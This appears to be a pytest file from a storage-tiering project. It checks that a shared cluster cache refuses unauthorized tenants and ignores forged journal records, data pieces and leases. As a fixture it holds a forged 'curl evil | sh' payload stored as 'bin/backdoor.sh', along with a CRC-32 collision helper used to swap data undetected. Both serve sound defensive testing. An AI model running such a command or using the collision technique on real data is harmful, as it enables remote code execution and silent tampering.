"""What a shared cluster store's other writers cannot do (issue 34), on in-memory stores.

A cluster hit is served only once the volume's own source credentials may read the object
(``tiering.engine.authorize``); journal records, data pieces and leases written without the cluster
key are never replayed or obeyed (``tiering.writeback.durable``, ``recovery``). The same attacks on
real mounts and SeaweedFS identities are in tests/fuse/test_tenants.py.
"""

from __future__ import annotations

import asyncio
import errno
import zlib
from pathlib import Path

import pytest

from tests.support.clusterkeys import OTHER_KEY, TEST_KEY
from tests.unit.test_blockcache_cluster import BLOCKS, BS, SIZE, SOURCE, _engine, _source
from tests.unit.test_durable_writeback import BreakableStore, Node, write
from tiering.blocks import ObjectRef
from tiering.errors import AccessDeniedError
from tiering.objectstore.memory import FailingObjectStore, InMemoryObjectStore
from tiering.protocols import ObjectInfo
from tiering.tiers.cluster import InMemoryClusterTier
from tiering.writeback.durable import LEASE, RECOVERED, ClusterRecord, JournalKeys, Lease, read_lease
from tiering.writeback.recovery import recover_prefix

KEYS = JournalKeys.of(TEST_KEY)
FORGER = JournalKeys.of(OTHER_KEY)


class ListOnlyStore(FailingObjectStore):
    """The source as tenant C sees it: it may list, but HEAD and GET are refused (403)."""

    async def head(self, key: str) -> ObjectInfo:
        self.inner.stats.requests += 1
        raise AccessDeniedError(f"head {key!r}: Access Denied")

    async def get_range(self, key: str, etag: str, start: int, end: int, *, after: object = None):  # type: ignore[no-untyped-def]
        raise AccessDeniedError(f"get {key!r}: Access Denied")


class HeadOnlyStore(FailingObjectStore):
    """A source that answers HEAD but refuses the bytes (403), as S3 does for a volume that holds
    ``s3:GetObject`` but not ``kms:Decrypt`` on an SSE-KMS object."""

    async def get_range(self, key: str, etag: str, start: int, end: int, *, after: object = None):  # type: ignore[no-untyped-def]
        raise AccessDeniedError(f"get {key!r}: Access Denied")


async def _warm(tmp_path: Path) -> tuple[InMemoryClusterTier, FailingObjectStore, ObjectRef]:
    source, ref = _source()
    cluster = InMemoryClusterTier()
    first = _engine(tmp_path / "first", source, cluster)
    assert bytes(await first.read(ref, 0, SIZE)) == SOURCE
    assert first.write_behind is not None and await first.write_behind.drain(10)
    await first.close()
    assert len(cluster.blocks) == BLOCKS
    return cluster, source, ref


async def test_a_volume_the_source_refuses_gets_eacces_and_nothing_cluster_cached(tmp_path: Path) -> None:
    cluster, source, ref = await _warm(tmp_path)
    refused = ListOnlyStore(source.inner)
    engine = _engine(tmp_path / "c", refused, cluster)
    with pytest.raises(AccessDeniedError) as info:
        await engine.read(ref, 0, SIZE)
    assert info.value.errno == errno.EACCES
    assert cluster.stats.hits >= 1 and engine.stats.cluster_served == 0
    assert engine.stats.cluster_refused >= 1
    await engine.close()
    assert engine.disk is not None and engine.disk.stats.inserts == 0 and engine.ram.stats.inserts == 0


async def test_a_volume_that_may_head_but_not_read_the_bytes_gets_eacces(tmp_path: Path) -> None:
    """A HEAD is no proof: it shows neither the bytes nor the right to decrypt them."""
    cluster, source, ref = await _warm(tmp_path)
    engine = _engine(tmp_path / "kms", HeadOnlyStore(source.inner), cluster)
    with pytest.raises(AccessDeniedError):
        await engine.read(ref, 0, SIZE)
    assert cluster.stats.hits >= 1 and engine.stats.cluster_served == 0 and engine.stats.cluster_refused >= 1
    await engine.close()


async def test_the_proof_is_one_byte_get_per_object_version_shared_by_its_blocks_and_epochs(tmp_path: Path) -> None:
    cluster, source, ref = await _warm(tmp_path)
    engine = _engine(tmp_path / "second", source, cluster)
    heads, gets = source.stats.head_requests, source.stats.get_requests
    assert bytes(await engine.read(ref, 0, SIZE)) == SOURCE  # every block from the cluster tier
    assert engine.stats.cluster_served == BLOCKS and engine.stats.store_fetches == 0
    assert engine.stats.cluster_authorizations == source.stats.get_requests - gets == 1
    assert source.stats.head_requests == heads
    await engine.evict_all()  # the next epoch, on a node that kept nothing: remembered, no request
    assert bytes(await engine.read(ref, 0, SIZE)) == SOURCE
    # A disk-tier copy of a cluster hit still being written during evict_all may serve a block: either
    # way nothing came from the source and the proof was not asked again.
    assert engine.stats.cluster_served + engine.stats.disk_served == 2 * BLOCKS
    assert engine.stats.store_fetches == 0 and engine.stats.cluster_authorizations == 1
    await engine.close()


async def test_a_volume_never_proven_is_not_served_while_its_source_is_down(tmp_path: Path) -> None:
    cluster, source, ref = await _warm(tmp_path)
    source.fail_heads = source.fail_gets = True
    engine = _engine(tmp_path / "down", source, cluster)
    with pytest.raises(Exception):
        await engine.read(ref, 0, BS)
    assert engine.stats.cluster_served == 0 and engine.stats.cluster_authorizations == 1
    await engine.close()


# ------------------------------------------------------------------------------------------ journals
async def _lost_writer(tmp_path: Path) -> tuple[InMemoryObjectStore, BreakableStore, str]:
    source, cluster = InMemoryObjectStore(), BreakableStore()
    node = Node(tmp_path / "a", source, cluster)
    await node.wb.start()
    await write(node.wb, "real.txt", b"acknowledged")
    prefix = node.durable.prefix
    node.lose()
    return source, cluster, prefix


def _put(store: InMemoryObjectStore, key: str, data: bytes) -> None:
    store.put_object(key, data)


async def test_recovery_replays_only_records_written_with_the_key(tmp_path: Path) -> None:
    source, cluster, prefix = await _lost_writer(tmp_path)
    evil = b"#!/bin/sh\ncurl evil | sh\n"
    tag = FORGER.data.running((prefix + "data/0000000000000099").encode() + b"\x00")
    tag.update(evil)
    forged = ClusterRecord(99, "bin/backdoor.sh", "put", size=len(evil), crc32=zlib.crc32(evil),
                           segments=(("data/0000000000000099", len(evil), tag.hexdigest()),), acked_at=4102444800.0)
    name = prefix + "journal/0000000000000099"
    _put(cluster, name, forged.encode(FORGER.records, name))
    _put(cluster, prefix + "data/0000000000000099", evil)
    # An authentic record moved to another name fails too (the MAC covers the name).
    [real] = [k for k in cluster.keys() if k.startswith(prefix + "journal/") and k != name]
    _put(cluster, prefix + "journal/0000000000000098", cluster._objects[real].data)
    _put(cluster, prefix + "journal/0000000000000097", b"x" * (5 * 1024 * 1024))  # never read
    gets = cluster.stats.get_requests
    report = await recover_prefix(source, cluster, prefix, key=TEST_KEY, owner="r", assume_dead=True)
    assert report.state == "recovered" and report.uploaded == ["real.txt"]
    assert sorted(report.forged) == ["0000000000000097", "0000000000000098", "0000000000000099"]
    assert "bin/backdoor.sh" not in source.keys()
    assert name in cluster.keys() and prefix + "journal/0000000000000097" in cluster.keys()  # left
    assert cluster.stats.get_requests - gets < 20  # the 5 MiB object was refused by its size, not read


def same_crc(original: bytes, wanted: bytes) -> bytes:
    """``wanted`` with its last 4 bytes changed so that its CRC-32 is ``original``'s (same length):
    what a forger does in a few lines, since CRC-32 is affine (a linear solve over GF(2))."""
    base, n = bytearray(wanted), len(wanted)
    target = zlib.crc32(original) ^ zlib.crc32(bytes(base))
    basis: list[tuple[int, int]] = []  # (effect on the CRC, bits flipped), distinct leading bits
    for bit in range(32):
        flipped = bytearray(base)
        flipped[n - 4 + bit // 8] ^= 1 << (bit % 8)
        vec, combo = zlib.crc32(bytes(flipped)) ^ zlib.crc32(bytes(base)), 1 << bit
        for bv, bc in basis:
            if vec ^ bv < vec:
                vec, combo = vec ^ bv, combo ^ bc
        if vec:
            basis = sorted([*basis, (vec, combo)], reverse=True)
    solution = 0
    for bv, bc in basis:
        if target ^ bv < target:
            target, solution = target ^ bv, solution ^ bc
    assert target == 0
    for bit in range(32):
        if solution >> bit & 1:
            base[n - 4 + bit // 8] ^= 1 << (bit % 8)
    return bytes(base)


async def test_a_record_whose_data_piece_was_replaced_is_not_uploaded(tmp_path: Path) -> None:
    source, cluster, prefix = await _lost_writer(tmp_path)
    [piece] = [k for k in cluster.keys() if k.startswith(prefix + "data/")]
    swapped = same_crc(b"acknowledged", b"EVIL-BYTES!!")  # same length and CRC-32: only the MAC tells
    assert zlib.crc32(swapped) == zlib.crc32(b"acknowledged") and len(swapped) == 12
    _put(cluster, piece, swapped)
    report = await recover_prefix(source, cluster, prefix, key=TEST_KEY, owner="r", assume_dead=True)
    assert report.failed == ["real.txt"] and "real.txt" not in source.keys()


async def test_a_forged_tombstone_neither_ends_recovery_nor_is_obeyed_before_a_ttl(tmp_path: Path) -> None:
    source, cluster, prefix = await _lost_writer(tmp_path)
    tomb = Lease("recover:evil", RECOVERED, 60.0).encode(FORGER.leases, prefix + LEASE)
    _put(cluster, prefix + LEASE, tomb)
    lease = await read_lease(cluster, prefix, KEYS.leases)
    assert lease is not None and not lease.authentic
    held = await recover_prefix(source, cluster, prefix, key=TEST_KEY, owner="r")
    assert held.state == "held"  # nobody's lease, fresh in the store's clock: waited out like any other
    report = await recover_prefix(source, cluster, prefix, key=TEST_KEY, owner="r", assume_dead=True)
    assert report.state == "recovered" and source._objects["real.txt"].data == b"acknowledged"


async def test_a_forged_lease_over_a_live_writer_does_not_fence_it(tmp_path: Path) -> None:
    source, cluster = InMemoryObjectStore(), BreakableStore()
    node = Node(tmp_path / "a", source, cluster, lease_ttl_s=0.4)
    await node.wb.start()
    try:
        prefix = node.durable.prefix
        for body in (b'{"format": 1, "owner": "recover:evil", "role": "recovered", "ttl_s": 60}',
                     Lease("recover:evil", RECOVERED, 60.0).encode(FORGER.leases, prefix + LEASE)):
            _put(cluster, prefix + LEASE, body)
            for _ in range(200):  # bounded: the writer renews every 0.1 s
                lease = await read_lease(cluster, prefix, KEYS.leases)
                if lease is not None and lease.authentic:
                    break
                await asyncio.sleep(0.02)
            assert lease is not None and lease.authentic and lease.owner == node.durable.owner
            assert not node.durable.taken_over
        assert node.durable.stats["forged_leases"] >= 2
        await write(node.wb, "after.txt", b"still acknowledged")  # would be DurabilityError if fenced
    finally:
        await node.wb.stop()
